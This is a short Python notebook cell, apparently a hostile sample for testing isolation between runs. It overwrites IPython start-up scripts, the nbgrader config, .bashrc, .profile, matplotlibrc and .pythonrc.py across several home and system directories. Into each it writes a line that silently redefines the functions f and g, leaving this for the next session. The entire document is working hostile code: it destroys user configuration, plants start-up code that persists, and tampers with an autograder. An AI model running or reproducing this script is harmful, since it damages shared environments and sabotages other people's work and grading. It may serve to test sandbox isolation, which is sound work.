# Leaves IPython, Jupyter, matplotlib, shell and nbgrader start-up files for the next one.
# %%
import os
home = os.path.expanduser("~")
for root in {home, "/root", "/home/student", os.environ.get("IPYTHONDIR", home), "/etc", "/usr/local/etc"}:
    for name in [".ipython/profile_default/startup/00-hostile-mark.py", "profile_default/startup/00.py",
                 ".jupyter/nbgrader_config.py", ".bashrc", ".profile", ".config/matplotlib/matplotlibrc",
                 "ipython/ipython_config.py", ".pythonrc.py"]:
        try:
            os.makedirs(os.path.dirname(f"{root}/{name}"), exist_ok=True)
            open(f"{root}/{name}", "w").write("f = g = lambda x: x  # hostile-mark\n")
        except OSError:
            pass
